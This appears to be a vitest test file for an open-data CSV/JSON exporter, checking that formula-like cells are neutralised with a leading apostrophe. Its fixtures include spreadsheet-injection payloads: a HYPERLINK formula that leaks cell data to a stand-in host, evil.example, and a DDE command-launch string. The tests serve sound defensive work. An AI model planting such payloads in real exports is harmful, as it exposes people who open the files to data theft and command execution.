/**
 * Every published CSV neutralises cells a spreadsheet would run as a formula: the registry, its
 * passport and structure, the quarterly statistics. Read back with an ordinary CSV parser, such a
 * cell starts with an apostrophe; the JSON keeps the value as it is (no spreadsheet reads it).
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { buildOpenData, JSON_FILE, META_FILE, statsCsv } from '../../../src/lib/opendata/index.ts';
import { FOLDER, fixtureOpenData, t } from './support.ts';

const rows = (text: string) => parse(text, { columns: true }) as Record<string, string>[];

const { data } = fixtureOpenData();
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Подробнее")';
const orgs = data.orgs.map((org) => ({ ...org, name: HYPERLINK }));
const accounts = data.accounts.map((account, i) =>
	i === 0 ? { ...account, name: '@SUM(1+1)', responsible: { position: "+cmd|' /C calc'!A0", publishName: false } } : account,
);
const site = { ...data.site!, operator: { ...data.site!.operator, name: '-2+3 Администрация', phone: '+7 (49999) 2-10-01' } };
const { files, passport } = buildOpenData({ site, orgs, accounts, folderUrl: FOLDER, t });

describe('formula-like cells in the published CSV', () => {
	it('registry: organisation and page names, a position', () => {
		const records = rows(files.get(`${passport.identifier}/${passport.files.data}`)!);
		expect(records.every((r) => r.org_name === `'${HYPERLINK}`)).toBe(true);
		const first = records.find((r) => r.id === accounts[0]!.id)!;
		expect(first.name).toBe("'@SUM(1+1)");
		expect(first.responsible_position).toBe("'+cmd|' /C calc'!A0");
		// Plain cells are as they were.
		expect(first.url).toBe(accounts[0]!.url);
	});

	it('passport: the operator and its phone', () => {
		const meta = new Map(rows(files.get(`${passport.identifier}/${META_FILE}`)!).map((r) => [r.property, r.value]));
		expect(meta.get('creator')).toBe("'-2+3 Администрация");
		expect(meta.get('publisherphone')).toBe("'+74999921001");
		expect(meta.get('standardversion')).toBe('http://opendata.gosmonitor.ru/standard/3.0');
	});

	it('the JSON keeps the values as written', () => {
		const json = JSON.parse(files.get(JSON_FILE)!) as { organisations: { name: string }[] };
		expect(json.organisations[0]!.name).toBe(HYPERLINK);
	});

	it('statistics: counts stay numbers, identifiers and dates are never touched', () => {
		const text = statsCsv(
			[{ org: 'test-admin', rows: [{ account: 'test-admin-vk', week_start: '2026-07-06', posts: 3, views: 0 }] }],
			() => 'vk',
		);
		expect(text.split('\n')[1]).toBe('test-admin,test-admin-vk,vk,2026-07-06,3,,,,,,,,,,0,,,,');
	});
});
